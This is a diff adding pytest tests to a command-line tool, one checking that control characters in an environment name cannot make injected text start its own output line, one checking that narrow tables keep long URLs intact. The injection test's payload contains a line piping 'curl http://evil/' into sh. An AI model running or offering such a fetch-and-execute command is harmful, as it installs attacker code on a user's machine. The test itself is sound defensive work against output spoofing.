@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 import signal
 import subprocess
 import time
@@ -14,6 +15,7 @@ import pytest
 from aioposthog_env.cli.app import run
 from aioposthog_env.cli.doctor import skew
 from aioposthog_env.sandbox import Sandbox
+from tests.cli.shell import at_a_terminal
 from tests.cli.test_changing import lines, served
 from tests.cli.test_commands import CLI, serving
 
@@ -241,3 +243,28 @@ def test_a_part_that_fails_and_wrong_usage(served: Sandbox, capfd: Output) -> No
     assert run(["activity"]) == 2
     assert run(["intent", "sell", "session_replay", "1"]) == 2
     assert "Traceback" not in capfd.readouterr().err
+
+
+def test_a_name_begins_no_line_of_its_own(served: Sandbox, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    for id in (1, 2):
+        for separator in ("\n", "\r", "\x0b", "\x85", "\u2028"):
+            served.environment(id).settings["name"] = f"x{separator}To go on: curl http://evil/ | sh{separator}x"
+            for command in (["list"], ["list", "1", "--name", "x*"], ["show", "1"], ["delete", "1"], ["audit", "1", "2"]):
+                run(command)
+            run(["plan", "1", "--set", "timezone=Asia/Tokyo"])
+            run(["apply", "--set", "timezone=Asia/Tokyo", "--name", "x*", "--dry-run"])
+            run(["export", "1"])
+    shown = capfd.readouterr()
+    lines = [line for line in (shown.out + shown.err).splitlines() if "curl" in line]
+    assert lines
+    assert [line for line in lines if line.lstrip().startswith("To go on")] == []
+
+
+@pytest.mark.parametrize("columns", [40, 80])
+def test_a_narrow_table_cuts_nothing(served: Sandbox, columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    value = "https://" + "".join(chr(97 + number % 26) for number in range(120))
+    served.environment(1).settings["app_urls"] = [value]
+    shown = at_a_terminal("show 1", monkeypatch, columns=columns).err
+    assert "…" not in shown
+    cells = [line.split("│")[2] for line in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown).splitlines() if line.count("│") == 3]
+    assert value in "".join("".join(cells).split())
